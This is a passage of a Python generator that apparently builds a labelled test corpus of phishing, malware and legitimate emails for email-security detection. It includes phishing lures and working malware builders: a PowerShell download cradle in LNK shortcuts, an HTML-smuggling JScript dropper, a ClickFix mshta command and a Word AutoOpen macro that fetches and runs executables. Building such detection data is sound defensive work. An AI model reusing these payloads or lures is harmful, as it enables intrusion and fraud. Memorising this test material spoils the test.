        plain.replace("\n\n", "</div>\n<div style=\"font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);\">\n<br>\n</div>\n<div style=\"font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);\">\n").replace("\n\n", "\n") + "</div>\n</body>\n</html>\n"
    head = f"""{oblock}
From: Catherine Lee <{snd}>
To: "{who[1]}" <{who[1]}>
Subject: Hello from Catherine
Thread-Topic: Hello from Catherine
Thread-Index: AQHcHD{b64("rm-ti", 22)}==
Date: {fmt(t - sec(2))}
Message-ID: {mid}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-exchange-messagesentrepresentingtype: 1
x-tmn: [{b64("rm-tmn", 40)}]
x-ms-publictraffictype: Email
MIME-Version: 1.0"""
    pod = mid[1:17]
    add("phish-romance-opener", "phishing",
        "Romance-scam opener to a widowed veteran: a 'widowed nurse on an offshore contract' introduces herself from a free Hotmail account, citing a veterans group, and asks for a reply; no link, the harm comes later.",
        "yahoo", who[1], t, src, auth, head,
        alt(plain, html, f"_000_{mid[1:-1].split('@')[0]}{pod.lower()}namp_"))


# ---- 44. Pig-butchering "wrong person" opener ----
def _a_pigbutcher():
    who = TESSA
    t = T("2025-12-06 05:33:27")
    snd = "vivian.zhou.sg88@gmail.com"
    src, gblock = gmail_out(t, "pb", who[1].split("@")[1])
    src.mailfrom = snd
    auth = Auth("pass", [("gmail.com", "20230601", "pass")], "pass", "none", "gmail.com")
    plain = """Hi Daniel, sorry for the late reply! I just got back from Singapore, the
trip was longer than I planned. Are we still on for the golf lesson next
Saturday? Let me know what time works for you :)

Vivian
"""
    html = """<div dir="ltr">Hi Daniel, sorry for the late reply! I just got back from Singapore, the trip was longer than I planned. Are we still on for the golf lesson next Saturday? Let me know what time works for you :)<div><br></div><div>Vivian</div></div>
"""
    head = f"""{gblock}
MIME-Version: 1.0
From: Vivian Zhou <{snd}>
Date: {fmt(t - sec(2), "Asia/Singapore")}
Message-ID: {gmail_msgid("pb")}
Subject: Saturday?
To: {who[1]}"""
    add("phish-pigbutchering-wrong-person", "phishing",
        "Pig-butchering 'wrong number' style opener by email: a friendly note to 'Daniel' about a golf lesson sent to an unrelated person, designed to start a conversation that ends in a fake investment platform.",
        "icloud", who[1], t, src, auth, head, alt(plain, html, "000000000000" + hexs("pb-b", 16)))


# ---- 45. Google Forms response receipt abused for a Coinbase withdrawal callback ----
def _a_gforms():
    who = BEVERLY
    t = T("2025-04-30 12:51:40")
    form_id = "1FAIpQLS" + b64("gf-id", 48).replace("/", "_").replace("+", "-")
    src = Src("209.85.220.73", "mail-sor-f73.google.com", "mail-sor-f73.google.com", f"3{tok('gf-mf', 20)}@forms-receipts.bounces.google.com")
    auth = Auth("pass", [("google.com", "20230601", "pass")], "pass", "reject", "google.com")
    title = "Coinbase Withdrawal Confirmation - Case CB-442981"
    desc = ("A withdrawal of 0.4312 BTC ($41,208.77) to an external wallet has been requested from your Coinbase account and "
            "will be processed in 2 hours. If you did not request this, contact Coinbase Support immediately at "
            "+1 (844) 209-7716 to cancel the transaction and secure your account.")
    plain = f"""Thanks for filling out {title}

Here's what was received.

{title}
{desc}

Email *
{who[1]}

Create your own Google Form
Report Abuse
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="font-family:Roboto,Arial,sans-serif;background:#f0ebf8;margin:0;padding:20px 0;">
<div style="max-width:640px;margin:0 auto;">
<div style="background:#fff;border-radius:8px;padding:24px;margin-bottom:12px;"><div style="font-size:20px;color:#202124;">Thanks for filling out <a href="https://docs.google.com/forms/d/e/{form_id}/viewform?usp=mail_form_link" style="color:#673ab7;">{title}</a></div><div style="font-size:14px;color:#5f6368;padding-top:8px;">Here's what was received.</div></div>
<div style="background:#fff;border-radius:8px;border-top:10px solid #673ab7;padding:24px;margin-bottom:12px;"><div style="font-size:24px;color:#202124;">{title}</div><div style="font-size:14px;color:#202124;padding-top:12px;line-height:20px;">{desc}</div></div>
<div style="background:#fff;border-radius:8px;padding:24px;margin-bottom:12px;"><div style="font-size:16px;color:#202124;">Email <span style="color:#d93025;">*</span></div><div style="font-size:14px;color:#202124;padding-top:12px;">{who[1]}</div></div>
<div style="text-align:center;padding:16px;font-size:12px;color:#5f6368;"><a href="https://docs.google.com/forms?usp=mail_form_receipt_footer" style="color:#5f6368;">Create your own Google Form</a><br><a href="https://docs.google.com/forms/d/e/{form_id}/reportabuse?source=https://docs.google.com/forms/d/e/{form_id}/viewform" style="color:#5f6368;">Report Abuse</a></div>
</div></body></html>
"""
    head = f"""{dkim("google.com", "20230601", "to:from:subject:message-id:date:mime-version:from:to:cc:subject:date:message-id:reply-to", "gf", t, extra=f"x={ep(t) + 604800}; darn=att.net")}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=1e100.net; s=20230601; t={ep(t)}; x={ep(t) + 604800};
        h=to:from:subject:message-id:date:mime-version:x-gm-message-state
         :from:to:cc:subject:date:message-id:reply-to;
        bh={bhash("gf")};
        b={sigf("gf-xg", 9)}
X-Gm-Message-State: AOJu0Y{b64("gf-gms", 60)}
X-Google-Smtp-Source: AGHT+I{b64("gf-gss", 60)}==
MIME-Version: 1.0
X-Received: by 2002:a05:6a00:{hexs("gf-x1", 4)}:b0:{hexs("gf-x2", 3)}:{hexs("gf-x3", 4)}:{hexs("gf-x4", 4)} with SMTP id {hexs("gf-x5", 11)}-{hexs("gf-x6", 11)}mr{num("gf-x7", 7)}.{num("gf-x8", 2)}.{ep(t)}{num("gf-x9", 3)};
 {fmt(t - sec(1), "America/Los_Angeles", paren=True)}
Date: {fmt(t - sec(1), "UTC")}
Message-ID: <{tok("gf-mid", 24)}@google.com>
Subject: {title}
From: Google Forms <forms-receipts-noreply@google.com>
To: {who[1]}
X-Form-Id: {form_id}"""
    add("phish-googleforms-coinbase-callback", "phishing",
        "Genuine Google Forms response receipt (forms-receipts-noreply@google.com, DMARC pass) from a scammer's form titled 'Coinbase Withdrawal Confirmation', whose description claims a 0.43 BTC withdrawal and gives a phone number to cancel it (callback).",
        "att", who[1], t, src, auth, head, alt(plain, html, "000000000000" + hexs("gf-b", 16)))


# ---- 46. Xfinity payment failed, from a compromised Zoho mailbox, is.gd shortener ----
def _a_xfinity():
    who = CAROL
    t = T("2025-06-10 13:06:55")
    snd = "accounts@sunridgeveterinary.com"
    link = "https://is.gd/xFnB7q"
    src = Src("136.143.188.51", "sender4-of-o51.zoho.com", "sender4-of-o51.zoho.com", snd)
    auth = Auth("pass", [("sunridgeveterinary.com", "zmail", "pass")], "none", hfrom="sunridgeveterinary.com")
    plain = f"""Xfinity

Hi Carol,

Your automatic payment of $158.90 for account ending 8817 didn't go through.
To avoid an interruption of your Internet, TV and Voice services, please
update your payment information today.

Update payment: {link}

Thank you for choosing Xfinity.
"""
    html = f"""<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div><span style="font-size:22px;font-weight:bold;color:#000;">xfinity</span><br></div><div><br></div><div>Hi Carol,<br></div><div><br></div><div>Your automatic payment of <b>$158.90</b> for account ending 8817 didn't go through. To avoid an interruption of your Internet, TV and Voice services, please update your payment information today.<br></div><div><br></div><div><a href="{link}" target="_blank" style="background:#5a23b9;color:#fff;padding:10px 20px;text-decoration:none;border-radius:4px;">Update payment</a><br></div><div><br></div><div>Thank you for choosing Xfinity.<br></div></div><br>
"""
    bnd = "----=_Part_" + num("xf-b", 6) + "_" + num("xf-b2", 9) + "." + str(ep(t)) + "776"
    head = f"""ARC-Seal: i=1; a=rsa-sha256; t={ep(t)}; cv=none;
\td=zohomail.com; s=zohoarc;
\tb={sigf("xf-arc", 0)}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.com; s=zohoarc;
\tt={ep(t)}; h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To:Cc;
\tbh={bhash("xf")};
\tb={sigf("xf-am", 0)}
ARC-Authentication-Results: i=1; mx.zohomail.com;
\tdkim=pass  header.i=sunridgeveterinary.com;
\tspf=pass  smtp.mailfrom={snd};
\tdmarc=pass header.from=<{snd}>
{dkim("sunridgeveterinary.com", "zmail", "Date:Date:From:From:To:To:Message-ID:Subject:Subject:MIME-Version:Content-Type:Message-Id:Reply-To:Cc", "xf", t, extra=f"i={snd}")}
Received: from mail.zoho.com by mx.zohomail.com
\twith SMTP id {ep(t)}{num("xf-z", 12)}.{num("xf-z2", 3)}; {fmt(t - sec(1), "America/Los_Angeles", paren=True)}
Date: {fmt(t - sec(1), "America/Denver")}
From: Xfinity Billing <{snd}>
To: "{who[1]}" <{who[1]}>
Message-Id: <{hexs("xf-mid", 16)}.{num("xf-mid2", 19)}@zoho.com>
Subject: Your automatic payment didn't go through
MIME-Version: 1.0
Importance: High
User-Agent: Zoho Mail
X-Mailer: Zoho Mail"""
    add("phish-xfinity-payment-zoho", "phishing",
        "Xfinity 'your automatic payment of $158.90 didn't go through' sent to a Comcast customer from a compromised veterinary-clinic Zoho Mail account (passes), link via the is.gd shortener.",
        "comcast", who[1], t, src, auth, head, alt(plain, html, bnd))


# ==========================================================================
# MALWARE
# ==========================================================================

# ---- 47. "Pictures from the reunion" from a friend's hijacked Yahoo, ZIP with an LNK ----
def _m_reunion_lnk():
    who = LINDA
    t = T("2025-10-20 18:22:09")
    snd = "donnakessler52@yahoo.com"
    src, yblock, mid = yahoo_out(t, "rn")
    src.mailfrom = snd
    auth = Auth("pass", [("yahoo.com", "s2048", "pass")], "pass", "reject", "yahoo.com")
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w hidden -nop -c \"$u='http://photo-share-cdn.duckdns.org/r/p.ps1';iex(New-Object Net.WebClient).DownloadString($u)\"")
    z = files.zip_archive([("Reunion_Photos_2025/IMG_4471.jpg.lnk", lnk),
                           ("Reunion_Photos_2025/IMG_4472.jpg.lnk", lnk),
                           ("Reunion_Photos_2025/IMG_4475.jpg.lnk", lnk)])
    plain = """Hi Linda!!

Here are the pictures from Saturday, so much fun seeing everyone again 📸
There are a few good ones of you and Marie. Let me know if you can't open
them, the file was too big so I zipped it.

Love,
Donna
"""
    html = """<html><head></head><body><div class="ydp4a9c2e1fyahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:16px;"><div dir="ltr" data-setdir="false">Hi Linda!!</div><div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Here are the pictures from Saturday, so much fun seeing everyone again 📸</div><div dir="ltr" data-setdir="false">There are a few good ones of you and Marie. Let me know if you can't open them, the file was too big so I zipped it.</div><div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Love,</div><div dir="ltr" data-setdir="false">Donna</div></div></body></html>
"""
    bnd_m = "----=_Part_" + num("rn-b", 7) + "_" + num("rn-b2", 9) + "." + str(ep(t) - 2) + "412"
    bnd_a = "----=_Part_" + num("rn-c", 7) + "_" + num("rn-c2", 9) + "." + str(ep(t) - 2) + "411"
    body = Multi("mixed", bnd_m, [
        Multi("alternative", bnd_a, [text(plain), text(html, "html")]),
        Leaf("application/x-zip-compressed", z, "base64", '; name="Reunion_Photos_2025.zip"', 'attachment; filename="Reunion_Photos_2025.zip"'),
    ])
    head = f"""{yblock}
Date: {fmt(t - sec(2))}
From: Donna Kessler <{snd}>
To: Linda Marchetti <{who[1]}>
Message-ID: {mid}
Subject: Pictures from the reunion =?UTF-8?B?8J+TuA==?=
MIME-Version: 1.0
References: {mid}
X-Mailer: WebService/1.1.24562 YMailNorrin"""
    add("malware-reunion-photos-zip-lnk", "malware",
        "'Pictures from the reunion' from a friend's hijacked Yahoo account (authentication passes) with a ZIP of IMG_*.jpg.lnk shortcuts that run a hidden PowerShell download cradle.",
        "gmail", who[1], t, src, auth, head, body)


# ---- 48. Plumbing invoice with an HTML-smuggling attachment, from a compromised M365 mailbox ----
def _m_html_smuggling():
    who = ROSEMARY
    t = T("2026-02-24 16:47:31")
    snd = "billing@kesslerplumbinginc.com"
    src = Src("40.107.244.83", "mail-mw2nam12on2083.outbound.protection.outlook.com", "NAM12-MW2-obe.outbound.protection.outlook.com", snd)
    auth = Auth("pass", [("kesslerplumbinginc.com", "selector1", "pass")], "pass", "quarantine", "kesslerplumbinginc.com")
    js = ("var Invoice_8832 = new ActiveXObject('WScript.Shell');\r\n"
          "Invoice_8832.Run('powershell -w hidden -ep bypass -c \"iwr https://cdn-docs-sync.top/i/8832.dat -OutFile $env:TEMP\\\\u.exe; "
          "Start-Process $env:TEMP\\\\u.exe\"', 0, false);\r\n")
    payload = files.zip_archive([("Invoice_8832.js", js.encode())])
    chunks = base64.b64encode(payload).decode()
    parts = [chunks[i:i + 60] for i in range(0, len(chunks), 60)]
    arr = ",\n".join(f"'{p[::-1]}'" for p in parts)
    smuggle = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Invoice 8832 - Secure Document</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;display:flex;align-items:center;justify-content:center;height:100vh;margin:0}}
.b{{background:#fff;padding:32px 40px;border-radius:4px;box-shadow:0 2px 8px rgba(0,0,0,.15);text-align:center}}</style></head>
<body><div class="b"><img src="data:image/svg+xml;base64,{base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" width="48" height="48"><rect width="48" height="48" rx="4" fill="#c43e1c"/><text x="10" y="32" font-size="18" fill="#fff">PDF</text></svg>').decode()}" alt="">
<h3>Invoice_8832.pdf</h3><p>Your document is being prepared for download...</p><p style="font-size:12px;color:#666">If the download does not start, open the file from your Downloads folder.</p></div>
<script>
var p=[
{arr}
];
function r(s){{return s.split('').reverse().join('')}}
var d=atob(p.map(r).join('')),a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);
var b=new Blob([a],{{type:'application/octet-stream'}}),l=document.createElement('a');
l.href=URL.createObjectURL(b);l.download='Invoice_8832.zip';document.body.appendChild(l);setTimeout(function(){{l.click()}},900);
</script></body></html>
"""
    pod = "DM8PR12MB" + num("hs-pod", 4)
    mid = f"<{pod}{hexs('hs-mid', 24, True)}@{pod}.namprd12.prod.outlook.com>"
    plain = """Hi Rosemary,

Thank you for choosing Kessler Plumbing. Attached is the invoice for the
water heater replacement completed last week. The balance of $1,184.00 is
due within 15 days.

Please let me know if you have any questions.

Thanks,
Angela Reyes
Office Manager | Kessler Plumbing Inc.
(281) 555-0148
"""
    html = """<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=us-ascii">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Hi Rosemary,<br><br>Thank you for choosing Kessler Plumbing. Attached is the invoice for the water heater replacement completed last week. The balance of $1,184.00 is due within 15 days.<br><br>Please let me know if you have any questions.<br><br>Thanks,<br>Angela Reyes<br>Office Manager | Kessler Plumbing Inc.<br>(281) 555-0148</div>
</body>
</html>
"""
    body = Multi("mixed", f"_004_{pod}{hexs('hs-mid', 24, True)}{pod.lower()}namp_", [
        Multi("alternative", f"_000_{pod}{hexs('hs-mid', 24, True)}{pod.lower()}namp_", [text(plain, charset="us-ascii"), text(html, "html", charset="us-ascii")]),
        attachment("text/html", "Invoice_8832.pdf.html", smuggle.encode()),
    ])
    head = f"""ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b={sigf("hs-as", 1)}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;
 s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;
 bh={bhash("hs")};
 b={sigf("hs-am", 1)}
ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass
 smtp.mailfrom=kesslerplumbinginc.com; dmarc=pass action=none
 header.from=kesslerplumbinginc.com; dkim=pass
 header.d=kesslerplumbinginc.com; arc=none
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
 d=kesslerplumbinginc.com; s=selector1;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;
 bh={bhash("hs")};
 b={sigf("hs-dk", 1)}
Received: from {pod}.namprd12.prod.outlook.com (2603:10b6:8:{hexs("hs-r1", 3)}::{hexs("hs-r2", 2)})
 by {pod}.namprd12.prod.outlook.com with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9632.14; {fmt(t - sec(1))}
From: Angela Reyes <{snd}>
To: "{who[1]}" <{who[1]}>
Subject: Invoice 8832 - Kessler Plumbing Inc.
Thread-Topic: Invoice 8832 - Kessler Plumbing Inc.
Thread-Index: AQHcpa{b64("hs-ti", 22)}==
Date: {fmt(t - sec(2))}
Message-ID: {mid}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add("malware-plumber-invoice-html-smuggling", "malware",
        "Plausible plumbing invoice from a compromised small-business Microsoft 365 mailbox with an 'Invoice_8832.pdf.html' attachment that reassembles a reversed base64 ZIP in the browser and downloads it (HTML smuggling of a JScript dropper).",
        "outlook", who[1], t, src, auth, head, body)


# ---- 49. "Your tax documents" from a compromised tax preparer, ClickFix fake CAPTCHA attachment ----
def _m_clickfix():
    who = HAROLD
    t = T("2026-02-17 14:33:50")
    snd = "sandra@ruiztaxservices.com"
    src = Src("68.178.252.61", "p3plwbeout22-01.prod.phx3.secureserver.net", "p3plwbeout22-01.prod.phx3.secureserver.net", snd)
    auth = Auth("pass", [("ruiztaxservices.com", "s1", "pass")], "none", hfrom="ruiztaxservices.com")
    cmd = "mshta https://verify-cf-captcha.live/tx/check.hta # \u2705 ''I am not a robot - Cloudflare Verification ID: 7718-2291''"
    cmd_js = cmd.replace('"', '\\"')
    page = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>2025 Tax Return Summary - Secure Viewer</title>
<style>body{{margin:0;font-family:system-ui,-apple-system,Segoe UI,Arial;background:#f9f9f9}}.w{{max-width:520px;margin:10vh auto;background:#fff;border:1px solid #ddd;padding:28px}}
.c{{display:flex;align-items:center;border:1px solid #ccc;padding:14px;border-radius:4px;background:#fafafa;cursor:pointer}}.x{{width:26px;height:26px;border:2px solid #999;border-radius:3px;margin-right:12px}}
#s{{display:none;margin-top:18px;font-size:14px;line-height:22px;background:#fffbe6;border:1px solid #f0d98c;padding:14px}}kbd{{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}}</style></head>
<body><div class="w"><h2 style="font-weight:600">2025_Tax_Return_Summary.pdf</h2><p style="color:#555;font-size:14px">Verify you are human to view this document.</p>
<div class="c" onclick="v()"><div class="x"></div><span>I'm not a robot</span><span style="margin-left:auto;font-size:11px;color:#888">reCAPTCHA<br>Privacy - Terms</span></div>
<div id="s"><b>Verification steps</b><br>1. Press <kbd>Windows</kbd> + <kbd>R</kbd><br>2. Press <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd><br>This completes the verification and opens your document.</div></div>
<script>
function v(){{var c="{cmd_js}";navigator.clipboard.writeText(c).catch(function(){{var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()}});document.getElementById('s').style.display='block'}}
</script></body></html>
"""
    plain = """Hi Harold,

Your 2025 tax return is ready for your review before we e-file. I've
attached the return summary through our secure viewer; please look it over
and let me know if anything needs to change.

We'll need your signed Form 8879 by Friday to file on time.

Best,
Sandra Ruiz, EA
Ruiz Tax Services
(941) 555-0172
"""
    html = """<html><body><div style="font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000"><div>Hi Harold,</div><div><br></div><div>Your 2025 tax return is ready for your review before we e-file. I've attached the return summary through our secure viewer; please look it over and let me know if anything needs to change.</div><div><br></div><div>We'll need your signed Form 8879 by Friday to file on time.</div><div><br></div><div>Best,</div><div>Sandra Ruiz, EA<br>Ruiz Tax Services<br>(941) 555-0172</div></div></body></html>
"""
    bnd_m = "----=_Part_" + num("cf-b", 6) + "_" + num("cf-b2", 9) + "." + str(ep(t)) + "604"
    bnd_a = "----=_Part_" + num("cf-c", 6) + "_" + num("cf-c2", 9) + "." + str(ep(t)) + "603"
    body = Multi("mixed", bnd_m, [
        Multi("alternative", bnd_a, [text(plain), text(html, "html")]),
        attachment("text/html", "2025_Tax_Return_Summary.html", page.encode()),
    ])
    head = f"""{dkim("ruiztaxservices.com", "s1", "date:from:reply-to:to:message-id:subject:mime-version:content-type", "cf", t)}
Received: from p3plgemwbe22-01.prod.phx3.secureserver.net ([10.193.{num("cf-i", 2)}.{num("cf-i2", 2)}])
\tby :WBEOUT: with SMTP
\tid {tok("cf-wb", 22)}; {fmt(t - sec(1), "America/Phoenix")}
X-SID: {tok("cf-sid", 22)}
X-Sender-Ip: 197.211.58.90
Received: (qmail {num("cf-q", 5)} invoked by uid 99); {fmt(t - sec(1), "UTC")}
Date: {fmt(t - sec(2), "America/Phoenix")}
From: Sandra Ruiz <{snd}>
Reply-To: Sandra Ruiz <{snd}>
To: {who[1]}
Message-ID: <{num("cf-mid", 14)}.{num("cf-mid2", 6)}.{ep(t)}{num("cf-ms", 3)}@email.secureserver.net>
Subject: Your 2025 tax return is ready for review
MIME-Version: 1.0
X-Originating-IP: 197.211.58.90
User-Agent: Workspace Webmail 6.21.11
X-CMAE-Envelope: MS4xfN{b64("cf-cmae", 70)}"""
    add("malware-tax-preparer-clickfix", "malware",
        "Tax preparer's hijacked GoDaddy mailbox sends 'your 2025 return is ready' with an HTML 'secure viewer' attachment: a fake CAPTCHA (ClickFix) that copies an mshta command to the clipboard and tells the user to paste it into Win+R.",
        "gmail", who[1], t, src, auth, head, body)


# ---- 50. Job offer onboarding form as a macro-enabled Word document ----
def _m_docm_job():
    who = EMILY
    t = T("2025-11-03 17:20:12")
    dom = "northwind-creativegroup.com"
    src = Src("185.196.9.154", f"mail.{dom}", f"mail.{dom}", f"careers@{dom}")
    auth = Auth("pass", [(dom, "mail", "pass")], "pass", "none", dom)
    macro = """Attribute VB_Name = "NewMacros"
Sub AutoOpen()
    Dim s As String
    s = "powershell -w hidden -nop -ep bypass -c " & Chr(34) & _
        "$p=$env:APPDATA+'\\nwcg\\upd.exe';New-Item -ItemType Directory -Force (Split-Path $p)|Out-Null;" & _
        "(New-Object Net.WebClient).DownloadFile('https://northwind-creativegroup.com/assets/fonts/nw.woff2',$p);Start-Process $p" & Chr(34)
    CreateObject("WScript.Shell").Run s, 0, False
End Sub
Sub Document_Open()
    AutoOpen
End Sub
"""
    doc = files.docx([
        "NORTHWIND CREATIVE GROUP - NEW HIRE ONBOARDING FORM",
        "Position: Graphic Designer (Remote, Contract-to-Hire)",
        "Candidate: Emily Sato",
        "",
        "This document is protected. If you see this message, click 'Enable Editing' and then 'Enable Content' at the top of the window to fill in the form.",
        "",
        "Section 1 - Personal information",
        "Section 2 - Direct deposit details",
        "Section 3 - Equipment shipping address",
    ], title="Onboarding Form", author="HR Northwind", macro=macro)
    plain = """Dear Emily,

Congratulations! Following your interview with our creative director, we
are pleased to offer you the Graphic Designer position (remote,
contract-to-hire, $38/hour).

To complete onboarding, please download the attached form, enable editing so
the fields become active, fill it in and send it back by Wednesday. Your
equipment (MacBook and Wacom tablet) will ship once we receive it.

Welcome aboard!

Rachel Thompson
HR & Onboarding | Northwind Creative Group
"""
    html = """<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt;">
<p>Dear Emily,</p>
<p>Congratulations! Following your interview with our creative director, we are pleased to offer you the <b>Graphic Designer</b> position (remote, contract-to-hire, $38/hour).</p>
<p>To complete onboarding, please download the attached form, <b>enable editing</b> so the fields become active, fill it in and send it back by Wednesday. Your equipment (MacBook and Wacom tablet) will ship once we receive it.</p>
<p>Welcome aboard!</p>
<p>Rachel Thompson<br>HR &amp; Onboarding | Northwind Creative Group</p>
</div>
"""
    body = Multi("mixed", "=_" + hexs("dm-mix", 32), [
        Multi("alternative", "=_" + hexs("dm-alt", 32), [text(plain), text(html, "html")]),
        attachment("application/vnd.ms-word.document.macroEnabled.12", "Onboarding_Form_Emily_Sato.docm", doc),
    ])
    head = vps_head(dom, f"mail.{dom}", "dm", t, who[1], f"Rachel Thompson - Northwind Creative <careers@{dom}>",
                    "Offer letter and onboarding form - Graphic Designer (Remote)", selector="mail", tz="America/New_York",
                    client="185.196.9.154", xmailer="Microsoft Outlook 16.0")
    add("malware-job-offer-docm", "malware",
        "Fake job offer to a job-seeking designer from a look-alike 'Northwind Creative Group' domain with a macro-enabled Word onboarding form (.docm) whose AutoOpen macro downloads and runs an executable.",
        "gmail", who[1], t, src, auth, head, body)



# ==========================================================================
# LEGITIMATE LOOK-ALIKES
# ==========================================================================

def mailpiece_jpeg(seed: int) -> bytes:
    """A grey scan of an envelope front, as Informed Delivery attaches them."""
    import io as _io

    from PIL import Image, ImageDraw

    img = Image.new("L", (320, 150), 235)
    d = ImageDraw.Draw(img)
    d.rectangle([4, 4, 315, 145], outline=120)
    d.rectangle([262, 12, 304, 52], fill=150)
    for k in range(3):
        d.rectangle([18, 16 + k * 9, 110 + (seed * 17 + k * 23) % 40, 21 + k * 9], fill=90)
    for k in range(4):
        d.rectangle([120, 70 + k * 11, 220 + (seed * 11 + k * 19) % 50, 76 + k * 11], fill=60)
    buf = _io.BytesIO()
    img.save(buf, "JPEG", quality=60)
    return buf.getvalue()


def sfmc_link(host: str, seed: str) -> str:
    return f"https://{host}/?qs={hexs(seed, 160)}"


# ---- L1. E-ZPass New York statement ----
def _l_ezpass():
    who = LINDA
    t = T("2025-03-02 09:14:26")
    sesid = f"0100019{hexs('lez-ses', 9)}-{uid('lez-u')}-000000"
    src = Src("54.240.11.82", "a11-82.smtp-out.amazonses.com", "a11-82.smtp-out.amazonses.com", f"{sesid}@amazonses.com")
    sel = tok("lez-sel", 32, "abcdefghijklmnopqrstuvwxyz234567")
    auth = Auth("pass", [("e-zpassny.com", sel, "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], "pass", "quarantine", "e-zpassny.com")
    plain = """E-ZPass New York Customer Service Center

Dear LINDA MARCHETTI,

Your E-ZPass New York statement for account ending in 4471 for the period
02/01/2025 - 02/28/2025 is now available.

Statement balance: $27.45
Replenishment method: Credit card ending in 0263
Replenishment amount: $25.00

To view your statement, log in to your account at www.e-zpassny.com and
select "Statements".

This is an automated email. Please do not reply. If you have questions about
your account, call the E-ZPass New York Customer Service Center at
1-800-333-8655.
"""
    html = """<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#000;">
<table width="640" cellpadding="0" cellspacing="0" border="0">
<tr><td style="padding:10px 0;border-bottom:2px solid #5b2c86;"><img src="https://www.e-zpassny.com/images/ezpass-ny-logo.png" alt="E-ZPass New York" width="180"></td></tr>
<tr><td style="padding:16px 0;">Dear LINDA MARCHETTI,<br><br>Your E-ZPass New York statement for account ending in <b>4471</b> for the period 02/01/2025 - 02/28/2025 is now available.<br><br>
<table cellpadding="4" cellspacing="0" border="0" style="font-size:13px;"><tr><td>Statement balance:</td><td><b>$27.45</b></td></tr><tr><td>Replenishment method:</td><td>Credit card ending in 0263</td></tr><tr><td>Replenishment amount:</td><td>$25.00</td></tr></table><br>
To view your statement, log in to your account at <a href="https://www.e-zpassny.com/">www.e-zpassny.com</a> and select &quot;Statements&quot;.<br><br>
<span style="font-size:11px;color:#555;">This is an automated email. Please do not reply. If you have questions about your account, call the E-ZPass New York Customer Service Center at 1-800-333-8655.</span></td></tr>
</table></body></html>
"""
    h = "Content-Type:MIME-Version:From:To:Subject:Date:Message-ID"
    head = f"""{dkim("e-zpassny.com", sel, h, "lez1", t)}
{dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", h + ":Feedback-ID", "lez2", t)}
MIME-Version: 1.0
From: E-ZPass New York <noreply@e-zpassny.com>
To: {who[1]}
Subject: Your E-ZPass New York Statement is Available
Date: {fmt(t - sec(1))}
Message-ID: <{sesid}@email.amazonses.com>
Feedback-ID: ::1.us-east-1.{b64("lez-fb", 43)}=:AmazonSES
X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-54.240.11.82"""
    bnd = f"----=_Part_{num('lez-b', 6)}_{num('lez-b2', 9)}.{ep(t)}210"
    add("legit-ezpass-ny-statement", "clean",
        "Genuine E-ZPass New York monthly statement notice from e-zpassny.com via Amazon SES (aligned DKIM): balance and replenishment details, no payment link, points to the official site.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- L2. SunPass low balance ----
def _l_sunpass():
    who = PATRICIA
    t = T("2025-05-01 11:02:48")
    src = Src("40.107.223.55", "mail-dm6nam11on2055.outbound.protection.outlook.com", "NAM11-DM6-obe.outbound.protection.outlook.com", "noreply@sunpass.com")
    auth = Auth("pass", [("sunpass.com", "selector1", "pass")], "pass", "reject", "sunpass.com")
    plain = """SunPass Low Balance Notification

Dear PATRICIA KOWALSKI,

The balance on your SunPass account ending in 5531 is low.

Current balance: $8.42
Low balance threshold: $10.00

To avoid toll-by-plate charges and administrative fees, please add funds by
logging in to your account at SunPass.com, through the SunPass app, or by
